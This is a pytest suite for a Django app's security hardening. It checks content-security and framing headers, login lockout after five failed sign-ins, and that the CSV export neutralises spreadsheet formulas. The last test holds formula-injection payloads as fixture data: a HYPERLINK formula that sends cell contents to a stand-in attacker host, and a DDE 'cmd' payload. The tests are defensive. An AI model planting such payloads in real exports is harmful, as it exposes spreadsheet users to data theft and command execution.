"""Web hardening: security headers on every answer, login throttling (django-axes) on the
app's and the admin's sign-in, and spreadsheet-safe CSV exports."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from retain.app import models as m
from retain.project.security import CONTENT_SECURITY_POLICY

pytestmark = pytest.mark.django_db
PASSWORD = "a-long-enough-password-42"


@pytest.fixture
def manager() -> m.User:
    return m.User.objects.create_user("mona", password=PASSWORD, role="manager")


def _sign_in(c: Client, password: str, url: str = "/login/") -> int:
    c.get(url)
    return c.post(url, {"username": "mona", "password": password}).status_code


@pytest.mark.parametrize("path", ["/login/", "/healthz", "/api/docs", "/no-such-page/"])
def test_every_answer_carries_the_policy_headers(path: str) -> None:
    answer = Client().get(path)
    assert answer["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
    assert "script-src 'self'" in answer["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in answer["Content-Security-Policy"]
    assert "camera=()" in answer["Permissions-Policy"]
    assert answer["X-Frame-Options"] == "DENY"


def test_five_wrong_passwords_lock_the_name_from_that_address(manager: m.User) -> None:
    c = Client(enforce_csrf_checks=False)
    assert [_sign_in(c, "wrong") for _ in range(4)] == [200, 200, 200, 200]
    fifth = c.post("/login/", {"username": "mona", "password": "wrong"})
    assert fifth.status_code == 429
    assert b"Too many failed sign-ins" in fifth.content
    assert b"after 5 wrong passwords" in fifth.content
    assert b"Try again in 15 minutes" in fifth.content
    # Locked: the right password is refused without being checked.
    assert _sign_in(c, PASSWORD) == 429
    # Another address is not locked out by this one's failures.
    other = Client(REMOTE_ADDR="198.51.100.7")
    other.get("/login/")
    assert other.post("/login/", {"username": "mona", "password": PASSWORD}).status_code == 302


def test_the_admin_login_counts_toward_the_same_lockout(manager: m.User) -> None:
    c = Client()
    for _ in range(3):
        _sign_in(c, "wrong", "/admin/login/")
    assert [_sign_in(c, "wrong") for _ in range(2)] == [200, 429]


def test_a_success_resets_the_count(manager: m.User) -> None:
    c = Client()
    for _ in range(4):
        _sign_in(c, "wrong")
    assert _sign_in(c, PASSWORD) == 302
    c.post("/logout/")
    assert [_sign_in(c, "wrong") for _ in range(4)] == [200, 200, 200, 200]


def test_the_accounts_csv_keeps_formulas_as_text(manager: m.User) -> None:
    m.Account.objects.create(
        external_id="acct-f",
        name='=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        segment="+cmd|' /C calc'!A0",
    )
    m.Account.objects.create(external_id="acct-ok", name="Plain Co", segment="SMB")
    c = Client()
    c.force_login(manager)
    body = b"".join(c.get("/accounts/export.csv").streaming_content).decode()
    rows = {r["external_id"]: r for r in csv.DictReader(io.StringIO(body))}
    assert rows["acct-f"]["name"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    assert rows["acct-f"]["segment"] == "'+cmd|' /C calc'!A0"
    assert rows["acct-ok"]["name"] == "Plain Co"
